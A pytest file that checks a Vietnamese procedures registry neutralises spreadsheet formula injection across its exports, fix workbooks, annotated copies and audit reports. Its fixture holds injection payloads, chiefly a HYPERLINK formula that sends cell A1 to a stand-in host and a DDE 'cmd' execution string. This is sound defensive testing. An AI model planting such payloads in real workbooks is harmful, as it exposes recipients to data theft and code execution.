"""Formula injection: text from data that looks like a formula is never a live formula in a
workbook we write (export, fix workbook, annotated copies, audit exports), and stays exact."""
import io

import openpyxl
import pytest

from procedures.cells import live_formulas
from tests.importers import helpers

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")'


def hostile_records():
    """The base dataset with formula-looking text in many cells a user can type."""
    data = helpers.records()
    data["procedures"][0]["name"] = HYPERLINK
    data["procedures"][0]["subjects"] = "=1+1"
    data["procedures"][1]["implementing_agency"] = "@SUM(A1:A9)"
    data["steps"][0]["description"] = "+cmd|' /C calc'!A0"
    data["steps"][1]["description"] = "-2+3"
    data["dossier_items"][0]["name"] = "=IMPORTXML(\"http://x.invalid\", \"//a\")"
    data["officers"][0]["department"] = "=Tư pháp"
    data["process_steps"][0]["task"] = "=A1&\"Tiếp nhận\""
    data["channels"][2]["fee_text"] = "=2000*3"
    return data


def formulas_in(source) -> int:
    wb = openpyxl.load_workbook(source)
    return live_formulas(wb)


def text_values(source, title):
    wb = openpyxl.load_workbook(source)
    return {cell.value for row in wb[title].iter_rows() for cell in row
            if isinstance(cell.value, str)}


@pytest.fixture
def hostile(do_import, tmp_path):
    report = do_import(helpers.write_xlsx(tmp_path / "hostile.xlsx", hostile_records()))
    assert report["outcome"] == "imported", report["issues"]
    return helpers.counts()


def test_hostile_upload_workbook_itself_has_no_live_formula(tmp_path):
    path = helpers.write_xlsx(tmp_path / "h.xlsx", hostile_records())
    assert formulas_in(path) == 0
    assert HYPERLINK in text_values(path, "Thủ tục")


def test_export_writes_formula_text_as_text_and_reimports_unchanged(runner, tmp_path, hostile,
                                                                   do_import):
    path = tmp_path / "export.xlsx"
    result = runner.invoke(args=["registry", "export", str(path)])
    assert result.exit_code == 0, result.output
    assert formulas_in(path) == 0
    wb = openpyxl.load_workbook(path)
    cell = next(c for row in wb["Thủ tục"].iter_rows() for c in row if c.value == HYPERLINK)
    assert cell.data_type == "s" and cell.quotePrefix  # text, and stays text when edited
    report = do_import(path)
    totals = report["stats"]["totals"]
    assert report["outcome"] == "imported" and totals["created"] == totals["updated"] == 0
    assert helpers.counts() == hostile  # the exact values came back


def test_unit_export_has_no_live_formula(runner, tmp_path, hostile):
    path = tmp_path / "unit.xlsx"
    assert runner.invoke(args=["registry", "export", str(path), "--unit", "22918"]).exit_code == 0
    assert formulas_in(path) == 0
    assert "=Tư pháp" in text_values(path, "Cán bộ")


def test_fix_workbook_page_and_cli_have_no_live_formula(hostile, admin, runner, tmp_path):
    response = admin.get("/audit/units/22918/fix.xlsx")
    assert response.status_code == 200
    assert formulas_in(io.BytesIO(response.data)) == 0
    assert HYPERLINK in text_values(io.BytesIO(response.data), "Thủ tục")
    out = tmp_path / "fix.xlsx"
    result = runner.invoke(args=["audit", "fix-workbook", "--unit", "22918", "--output", str(out)])
    assert result.exit_code == 0, result.output
    assert formulas_in(out) == 0


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "json"])
def test_annotated_copy_has_no_live_formula(fmt, tmp_path, runner):
    data = hostile_records()
    data["procedures"][1]["field_code"] = "khong-co"  # an error, so the copy is marked
    if fmt == "xlsx":
        path = helpers.write_xlsx(tmp_path / "up.xlsx", data)
    elif fmt == "csv":
        path = helpers.zip_csv(tmp_path / "up.zip", data)
    else:
        path = helpers.write_json(tmp_path / "up.json", data)
    out = tmp_path / "annotated.xlsx"
    result = runner.invoke(args=["registry", "import", str(path), "--annotated", str(out)])
    assert out.exists(), result.output
    assert formulas_in(out) == 0
    wb = openpyxl.load_workbook(out)
    values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert HYPERLINK in values and "=1+1" in values


def test_annotated_copy_of_a_workbook_with_real_formulas_keeps_their_values(tmp_path, runner):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Đơn vị"
    ws.append(["Mã đơn vị", "Tên đơn vị", "Loại đơn vị", "Cấp"])
    ws.append(["22918", '=HYPERLINK("http://example.invalid","Phường Mũi Né")', "Phường", "Xã"])
    path = tmp_path / "formulas.xlsx"
    wb.save(path)
    out = tmp_path / "annotated.xlsx"
    runner.invoke(args=["registry", "import", str(path), "--annotated", str(out)])
    assert out.exists()
    assert formulas_in(out) == 0


def test_upload_page_annotated_copy_has_no_live_formula(admin, tmp_path):
    data = hostile_records()
    data["units"][1]["parent_code"] = "99999"  # an error
    body = helpers.xlsx_bytes(data)
    response = admin.post("/imports", data={"file": (io.BytesIO(body), "h.xlsx")},
                          content_type="multipart/form-data")
    assert response.status_code < 500
    from tests.importers.helpers import batches
    batch = batches()[-1]
    response = admin.get(f"/imports/{batch.id}/annotated.xlsx")
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert formulas_in(io.BytesIO(response.data)) == 0


def test_audit_exports_have_no_live_formula(hostile, admin, runner):
    runner.invoke(args=["audit", "run"])  # exits 1: the unit has blockers
    for url in ("/audit/units/22918/findings.xlsx", "/audit/league.xlsx"):
        response = admin.get(url)
        assert response.status_code == 200, url
        assert formulas_in(io.BytesIO(response.data)) == 0, url
    for url in ("/audit/units/22918/findings.csv", "/audit/league.csv"):
        response = admin.get(url)
        assert response.status_code == 200, url
        cells = [c for line in response.get_data(as_text=True).splitlines()
                 for c in line.split(",")]
        assert not [c for c in cells if c.startswith(("=", "+", "@"))], url
